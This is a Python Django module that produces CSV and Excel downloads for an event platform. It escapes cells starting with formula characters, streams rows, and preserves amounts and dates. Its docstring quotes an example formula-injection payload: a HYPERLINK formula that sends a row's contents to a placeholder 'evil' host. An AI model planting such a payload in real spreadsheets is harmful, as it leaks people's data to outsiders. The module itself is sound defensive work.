"""Spreadsheet downloads (CSV and Excel .xlsx) that are safe to open in a spreadsheet program.

Every export goes through `spreadsheet_response`: a title, headers and rows in, a download out, with:

- **formula injection neutralised** (OWASP "CSV Injection"): a text cell that starts with `=`, `+`, `-`,
  `@`, a tab or a carriage return would run as a formula in Excel, LibreOffice or Google Sheets (a guest
  named `=HYPERLINK("http://evil/?"&A1, "Click")` leaks the row). `neutralise` prefixes such text with a
  single quote, in CSV and in Excel alike, so the organizer sees the text, never a result. Numbers,
  amounts and dates are real numbers and dates, never text, so they are left alone;
- **constant memory whatever the number of rows**: the rows are an iterable, read once. CSV streams as it
  is written; Excel is written by openpyxl's write-only workbook into a temporary file, which is then
  streamed. (tablib's Dataset would hold every row, and its xlsx export every cell object, in memory:
  measured at 20,000 guest rows, 6.9 s and 141 MB against 3.4 s and 25 MB for the write-only workbook,
  and the gap grows with the rows. `dataset_response` still takes a tablib Dataset for small tables.)
- **types kept**: `Decimal` amounts (from integer minor units, `eventsaas.money.minor_units_to_decimal`)
  are written as exact decimal text ("25.00", "2500") and as numbers in Excel with as many decimals as
  they carry; datetimes are given in the event's time zone (`local_datetime`) and written as
  "2026-06-01 18:30" in CSV and as date cells in Excel;
- a CSV that Excel opens as UTF-8 (byte order mark), `Content-Disposition` with a file name such as
  `summer-party-guests-2026-12-01.xlsx` (`export_filename`), and `Cache-Control: no-store, private`
  (exports carry personal data and codes: no cache keeps a copy).
"""

import csv
import datetime as dt
import enum
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import TYPE_CHECKING, Protocol

from django.http import FileResponse, Http404, StreamingHttpResponse
from django.utils import timezone
from django.utils.cache import patch_cache_control
from django.utils.http import content_disposition_header

from eventsaas.dates import event_local

if TYPE_CHECKING:
    import tablib

#: What a cell may hold: text, a whole number, an exact amount, a datetime (naive, already local) or nothing.
Cell = str | int | Decimal | dt.datetime | dt.date | None

# OWASP's list: a cell starting with one of these is read as a formula by some spreadsheet program.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

CSV_DATETIME_FORMAT = "%Y-%m-%d %H:%M"
CSV_DATE_FORMAT = "%Y-%m-%d"
EXCEL_DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
EXCEL_DATE_FORMAT = "yyyy-mm-dd"
# Excel's limit for a sheet's name.
EXCEL_TITLE_LENGTH = 31


class FileFormat(enum.StrEnum):
    CSV = "csv"
    XLSX = "xlsx"

    @property
    def content_type(self) -> str:
        if self is FileFormat.CSV:
            return "text/csv; charset=utf-8"
        return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def file_format_or_404(value: str) -> FileFormat:
    """The format named in an export's URL ("csv" or "xlsx"); anything else is a page that does not exist."""
    try:
        return FileFormat(value)
    except ValueError:
        raise Http404("No such export format") from None


@dataclass(frozen=True)
class Sheet:
    """One table to download: `rows` is any iterable (a generator over a queryset), read exactly once."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[Cell]]


def neutralise(value: Cell) -> Cell:
    """Text a spreadsheet would run as a formula, prefixed with a single quote; any other value unchanged.

    `"=1+1"` -> `"'=1+1"`, `"-1"` -> `"'-1"`, `"@SUM(A1)"` -> `"'@SUM(A1)"`; `-1` (a number) stays a number.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def strip_neutralising_quote(text: str) -> str:
    """The text `neutralise` was given: an export read back (an import) gets "+41 79 123 45 67", not "'+41 ..."."""
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def neutralised_row(row: Sequence[Cell]) -> list[Cell]:
    return [neutralise(value) for value in row]


def local_datetime(value: dt.datetime | None, tz: dt.tzinfo) -> dt.datetime | None:
    """A stored (aware) datetime as the wall-clock time in `tz`, without a zone, for a cell.

    Spreadsheets have no time zones, so the zone goes in the column's header instead (`zoned_header`).
    """
    if value is None:
        return None
    local = event_local(value, tz)
    return local.replace(tzinfo=None)


def zoned_header(label: str, zone_name: str) -> str:
    """ "Last login (Europe/Madrid)": the header of a column of times in that zone."""
    return f"{label} ({zone_name})"


def export_filename(*, stem: str, what: str, file_format: FileFormat, tz: dt.tzinfo | None = None) -> str:
    """`summer-party-guests-2026-12-01.xlsx`: what, of what, as of today (in the event's time zone)."""
    today = timezone.localdate(timezone.now(), tz)
    return f"{stem}-{what}-{today.isoformat()}.{file_format.value}"


def spreadsheet_response(
    sheet: Sheet, *, file_format: FileFormat, filename: str
) -> StreamingHttpResponse | FileResponse:
    """The sheet as a download in the format asked for, every text cell neutralised."""
    response: StreamingHttpResponse | FileResponse
    if file_format is FileFormat.CSV:
        response = StreamingHttpResponse(_csv_chunks(sheet), content_type=file_format.content_type)
        response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    else:
        response = FileResponse(
            _xlsx_file(sheet), as_attachment=True, filename=filename, content_type=file_format.content_type
        )
    patch_cache_control(response, no_store=True, private=True)
    return response


class _Dated(Protocol):
    """What names an event's download: its slug, and its zone for the date (events.Event)."""

    slug: str

    @property
    def tzinfo(self) -> dt.tzinfo: ...


def event_spreadsheet_response(
    sheet: Sheet, *, event: _Dated, what: str, file_format: FileFormat
) -> StreamingHttpResponse | FileResponse:
    """An event's export as a download, named after the event and dated in its zone (every export page)."""
    filename = export_filename(stem=event.slug, what=what, file_format=file_format, tz=event.tzinfo)
    return spreadsheet_response(sheet, file_format=file_format, filename=filename)


def dataset_response(
    dataset: "tablib.Dataset", *, file_format: FileFormat, filename: str
) -> StreamingHttpResponse | FileResponse:
    """A tablib Dataset (a small table already in memory) as a download, neutralised like every export."""
    sheet = Sheet(title=dataset.title or "", headers=list(dataset.headers or []), rows=list(dataset))
    return spreadsheet_response(sheet, file_format=file_format, filename=filename)


class _Echo:
    """A file-like object whose write returns what it is given: csv.writer's output, one row at a time."""

    def write(self, value: str) -> str:
        return value


def _csv_text(value: Cell) -> Cell:
    if isinstance(value, dt.datetime):
        return value.strftime(CSV_DATETIME_FORMAT)
    if isinstance(value, dt.date):
        return value.strftime(CSV_DATE_FORMAT)
    return value


def _csv_chunks(sheet: Sheet) -> Iterator[bytes]:
    writer = csv.writer(_Echo())
    # The byte order mark makes Excel read the file as UTF-8 (names with accents); csv readers skip it
    # with the "utf-8-sig" encoding.
    yield "\ufeff".encode() + writer.writerow(neutralised_row(sheet.headers)).encode()
    batch: list[str] = []
    for row in sheet.rows:
        batch.append(writer.writerow([_csv_text(value) for value in neutralised_row(row)]))
        if len(batch) >= 500:
            yield "".join(batch).encode()
            batch = []
    if batch:
        yield "".join(batch).encode()


def _xlsx_file(sheet: Sheet) -> tempfile.SpooledTemporaryFile[bytes]:
    # openpyxl is imported here: only an Excel download needs it, and it takes a while to import.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(title=_sheet_title(sheet.title))
    worksheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header_cells = []
    for header in neutralised_row(sheet.headers):
        cell = WriteOnlyCell(worksheet, value=_xlsx_text(header))
        cell.font = bold
        header_cells.append(cell)
    worksheet.append(header_cells)
    for row in sheet.rows:
        worksheet.append([_xlsx_cell(worksheet, value) for value in neutralised_row(row)])
    output: tempfile.SpooledTemporaryFile[bytes] = tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024)
    workbook.save(output)
    output.seek(0)
    return output


def _xlsx_cell(worksheet, value: Cell):
    """The value as openpyxl writes it; amounts and dates in a cell with their display format.

    Text is passed as it is: neutralised, it no longer starts with "=", which is what openpyxl takes for
    a formula.
    """
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, Decimal):
        cell = WriteOnlyCell(worksheet, value=value)
        places = max(-int(value.as_tuple().exponent), 0)
        cell.number_format = "0." + "0" * places if places else "0"
        return cell
    if isinstance(value, dt.datetime | dt.date):
        cell = WriteOnlyCell(worksheet, value=value)
        cell.number_format = EXCEL_DATETIME_FORMAT if isinstance(value, dt.datetime) else EXCEL_DATE_FORMAT
        return cell
    return _xlsx_text(value)


def _xlsx_text(value):
    """Text without the control characters a worksheet cannot hold (openpyxl refuses the whole file for one).

    People type them (a name pasted from elsewhere, a vertical tab from a phone): they are invisible, so the
    cell loses nothing a reader sees; the CSV download keeps them as typed.
    """
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def _sheet_title(title: str) -> str:
    cleaned = "".join("-" if char in "\\*?:/[]" else char for char in title).strip("'")
    return cleaned[:EXCEL_TITLE_LENGTH] or "Sheet"
